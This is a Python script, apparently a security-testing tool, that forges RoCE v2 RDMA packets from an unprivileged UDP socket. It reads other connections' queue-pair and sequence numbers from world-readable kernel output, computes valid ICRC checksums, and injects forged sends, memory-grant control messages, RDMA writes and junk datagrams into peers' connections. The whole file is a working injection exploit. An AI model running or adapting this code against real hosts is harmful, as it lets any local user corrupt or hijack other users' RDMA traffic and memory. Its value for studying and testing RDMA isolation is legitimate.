#!/usr/bin/python3
# SPDX-License-Identifier: BSD-3-Clause
"""Packets of RoCE version 2 out of an ordinary UDP socket, as each user of a host can send them: forger.py COMMAND ...

    numbers DEVICE                      the first connected queue pair here: its peer's number and the number of the
                                        packet that its peer awaits, as the kernel tells them to everybody
    datagrams FROM TO QKEY COUNT QP...  so many datagrams of rubbish to each of these UD queue pairs
    strike WHAT FROM TO DEVICE          packets that the peer of the connected queue pair here awaits next: of WHAT a
                                        send, a control message, the last part of a message, or a write
    strike WHAT FROM TO QP PACKET       ... to this queue pair, from this packet number on
    sweep COUNT FROM TO DEVICE          so many sends, with packet numbers from all over

Knows neither a job's key nor a memory key. Judges nothing."""
import json
import socket
import struct
import subprocess
import sys
import zlib

PORT = 4791
IP_MTU_DISCOVER, DONT_FRAGMENT = 10, 2  # a header without a number of its own: so the checksum can be told
SEND_LAST, SEND_ONLY, WRITE_ONLY, UD_SEND_ONLY = 0x02, 0x04, 0x0a, 0x64
MESSAGE, GRANT = 1, 4                   # of pm-verbs/conn/wire.h
RUBBISH = b"forged".ljust(56, b"!")
NUMBERS = 1 << 24                       # of packets
TRIES = 50
AHEAD = 64                              # packets that may have been sent since the number was told


def check_sum(source, target, head, rest):
    """ICRC: over what does not change on the way, with all else as ones."""
    length = 8 + len(head) + len(rest) + 4
    addresses = struct.pack("!BBHHHBBH4s4s", 0x45, 0xff, 20 + length, 0, 0x4000, 0xff, 17, 0xffff,
                            socket.inet_aton(source[0]), socket.inet_aton(target))
    udp = struct.pack("!HHHH", source[1], PORT, length, 0xffff)
    return struct.pack("<I", zlib.crc32(b"\xff" * 8 + addresses + udp + head[:4] + b"\xff" + head[5:] + rest))


class Forger:
    def __init__(self, source, target):
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.socket.setsockopt(socket.IPPROTO_IP, IP_MTU_DISCOVER, DONT_FRAGMENT)
        self.socket.bind((source, 0))
        self.source, self.target = self.socket.getsockname(), target

    def send(self, opcode, queue_pair, number, rest):
        pad = -len(rest) % 4
        head = struct.pack("!BBHII", opcode, pad << 4, 0xffff, queue_pair, number % NUMBERS)
        rest += bytes(pad)
        self.socket.sendto(head + rest + check_sum(self.source, self.target, head, rest), (self.target, PORT))


def numbers(device):
    """... of a connection that may be on its way."""
    for _ in range(TRIES):
        said = subprocess.run(["rdma", "-j", "resource", "show", "qp", "link", device], check=True,
                              stdout=subprocess.PIPE).stdout
        for qp in json.loads(said):
            if qp["type"] == "RC" and qp["state"] == "RTS":
                return qp["rqpn"], qp["sq-psn"]
    sys.exit(f"forger.py: nothing is connected on {device}")


def header(kind):
    return struct.pack("<BBHI", kind, 0, 0, 0)


PACKETS = {
    "send": (SEND_ONLY, header(MESSAGE) + RUBBISH),
    # a region of the peer at an address of our choice
    "control": (SEND_ONLY, header(GRANT) + struct.pack("<QIIQQIHH", 1, 1, 0, 4096, 4096, 1, 1, 0)),
    "last": (SEND_LAST, RUBBISH),
    # address, memory key, length
    "write": (WRITE_ONLY, struct.pack("!QII", 0x1000, 0x1234, len(RUBBISH)) + RUBBISH),
}


def main():
    command, *words = sys.argv[1:]
    if command == "numbers":
        print(*numbers(words[0]))
        return
    if command == "datagrams":
        source, target, key, count, *pairs = words
        forger = Forger(source, target)
        for number in range(int(count)):
            for pair in pairs:
                forger.send(UD_SEND_ONLY, int(pair), number, struct.pack("!II", int(key, 0), 17) + RUBBISH)
        return
    what, source, target, *words = words
    forger = Forger(source, target)
    pair, first = numbers(words[0]) if len(words) == 1 else map(int, words)
    if command == "strike":
        for ahead in range(AHEAD):
            forger.send(PACKETS[what][0], pair, first + ahead, PACKETS[what][1])
    else:
        for n in range(int(what)):
            forger.send(SEND_ONLY, pair, first + NUMBERS // 4 + n * (NUMBERS // 2 // int(what)),
                        PACKETS["send"][1])


main()
